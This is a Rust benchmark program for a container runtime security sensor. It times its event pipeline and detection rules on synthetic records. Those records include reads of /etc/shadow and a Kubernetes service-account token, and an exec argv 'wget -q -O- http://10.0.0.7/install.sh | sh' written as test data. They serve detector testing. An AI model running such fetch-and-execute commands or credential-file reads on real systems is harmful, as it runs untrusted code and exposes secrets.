//! The sensor's user-space path on one thread, without the kernel: sensor records (built
//! byte for byte in the kernel side's layout) → decode → process tracker → container
//! attribution → rules (the built-in runtime pack from `rules/runtime/`). Reports events
//! per CPU-second of the thread, so other load on the machine does not change the figure,
//! for the pipeline without rules and with them.
//!
//! `cargo run --release -p palisade-sensor --example bench_pipeline -- [EVENTS]`

use palisade_engine::{Engine, EngineOptions};
use palisade_runtime::cgroup::CgroupContainer;
use palisade_runtime::event::Container;
use palisade_runtime::raw::{RawKind, build, layout};
use palisade_runtime::{RuntimeFields, TrackerOptions};
use palisade_sensor::directory::{Directory, MetadataSource};
use palisade_sensor::stream::EventStream;
use std::time::Instant;

const ID: &str = "8a73346ba4ca0c1d2e3f405162738495a6b7c8d9e0f1a2b3c4d5e6f708192a3b";

struct Fixed;

impl MetadataSource for Fixed {
    fn name(&self) -> &str {
        "fixed"
    }
    fn handles(&self, _: &str) -> bool {
        true
    }
    fn inspect(&self, c: &CgroupContainer) -> Result<Option<Container>, String> {
        Ok(Some(Container {
            id: c.id.clone(),
            runtime: c.runtime.clone(),
            name: Some("web".into()),
            image: Some("registry.local/shop/web:1.4".into()),
            ..Container::default()
        }))
    }
}

fn thread_cpu_s() -> f64 {
    nix::time::clock_gettime(nix::time::ClockId::CLOCK_THREAD_CPUTIME_ID)
        .map(|t| t.tv_sec() as f64 + t.tv_nsec() as f64 / 1e9)
        .unwrap_or(0.0)
}

fn header(b: &mut [u8], pid: u32) {
    build::put_u32(b, 36, 100);
    build::put_u32(b, 56, pid % 1000 + 2);
    build::put_str(b, 88, 96, &format!("libpod-{ID}"));
    build::put_str(b, 184, 96, "libpod_parent");
}

/// A mix like a busy container host: opens of watched files, execs, connects, forks and
/// exits, all in one container.
fn records(n: usize) -> Vec<Vec<u8>> {
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let pid = 1000 + (i % 500) as u32;
        let rec = match i % 10 {
            0..=5 => {
                let mut b = build::record(RawKind::Open.number(), layout::OPEN, pid, "cat");
                header(&mut b, pid);
                build::put_u64(&mut b, 304, 3);
                build::put_u32(&mut b, 312, 1);
                let path = if i % 2 == 0 {
                    "/etc/shadow"
                } else {
                    "/var/run/secrets/kubernetes.io/serviceaccount/token"
                };
                build::put_str(&mut b, 320, 256, path);
                b
            }
            6 | 7 => {
                let mut b = build::record(RawKind::Exec.number(), layout::EXEC, pid, "sh");
                header(&mut b, pid);
                build::put_u32(&mut b, 296, 1);
                build::put_str(&mut b, 312, 256, "/bin/sh");
                let comps = b"busybox\0bin\0";
                b[568..568 + comps.len()].copy_from_slice(comps);
                let argv = b"sh\0-c\0wget -q -O- http://10.0.0.7/install.sh | sh\0";
                b[824..824 + argv.len()].copy_from_slice(argv);
                build::put_u32(&mut b, 300, argv.len() as u32);
                b
            }
            8 => {
                let mut b = build::record(RawKind::Connect.number(), layout::SOCK, pid, "curl");
                header(&mut b, pid);
                build::put_u32(&mut b, 296, 3);
                build::put_u16(&mut b, 300, 2);
                build::put_u16(&mut b, 304, 443);
                build::put_u16(&mut b, 306, 1);
                b[328..332].copy_from_slice(&[10, 0, 0, 7]);
                b
            }
            _ => {
                let kind = if i % 20 == 9 {
                    RawKind::Fork
                } else {
                    RawKind::Exit
                };
                let mut b = build::record(kind.number(), layout::SYSCALL_SHORT, pid, "sh");
                header(&mut b, pid);
                build::put_u64(&mut b, 296, u64::from(pid) + 1);
                b
            }
        };
        out.push(rec);
    }
    out
}

fn run(records: &[Vec<u8>], engine: Option<&mut Engine<'_>>) -> (f64, f64, u64, u64) {
    let mut stream = EventStream::new(
        TrackerOptions::default(),
        Vec::new(),
        Directory::start(vec![Box::new(Fixed)]),
    );
    // Warm the metadata cache so no event waits for the lookup thread.
    let _ = stream.push_record(&records[0]);
    let warm = Instant::now();
    while stream.directory().stats().known == 0 && warm.elapsed().as_secs() < 5 {
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    let mut engine = engine;
    let (mut events, mut alerts) = (0u64, 0u64);
    let cpu0 = thread_cpu_s();
    let wall = Instant::now();
    for chunk in records.chunks(256) {
        for r in chunk {
            let _ = stream.push_record(r);
        }
        stream.ready(Instant::now(), false, |event| {
            events += 1;
            if let Some(engine) = engine.as_deref_mut() {
                engine.process(&event, |_| alerts += 1);
            }
        });
    }
    stream.ready(Instant::now(), true, |event| {
        events += 1;
        if let Some(engine) = engine.as_deref_mut() {
            engine.process(&event, |_| alerts += 1);
        }
    });
    (
        thread_cpu_s() - cpu0,
        wall.elapsed().as_secs_f64(),
        events,
        alerts,
    )
}

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(1_000_000);
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/runtime");
    let mut texts = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(&dir)
        .expect("rules/runtime")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    entries.sort();
    for p in &entries {
        texts.push((p.display().to_string(), std::fs::read_to_string(p).unwrap()));
    }
    let files: Vec<palisade_rules::RulesFile<'_>> = texts
        .iter()
        .map(|(path, text)| palisade_rules::RulesFile { path, text })
        .collect();
    let loaded = palisade_rules::load(&files);
    let table = RuntimeFields;
    let (mut engine, _) = Engine::new(&loaded, &table, &EngineOptions::default());
    let rules = engine.rules().count();
    let recs = records(n);
    let (cpu, wall, events, _) = run(&recs, None);
    println!(
        "pipeline without rules: {events} events, {cpu:.2} CPU s, {wall:.2} wall s => {:.0} events per CPU-second",
        events as f64 / cpu
    );
    let (cpu, wall, events, alerts) = run(&recs, Some(&mut engine));
    println!(
        "pipeline with {rules} rules: {events} events, {alerts} alerts, {cpu:.2} CPU s, {wall:.2} wall s => {:.0} events per CPU-second",
        events as f64 / cpu
    );
}
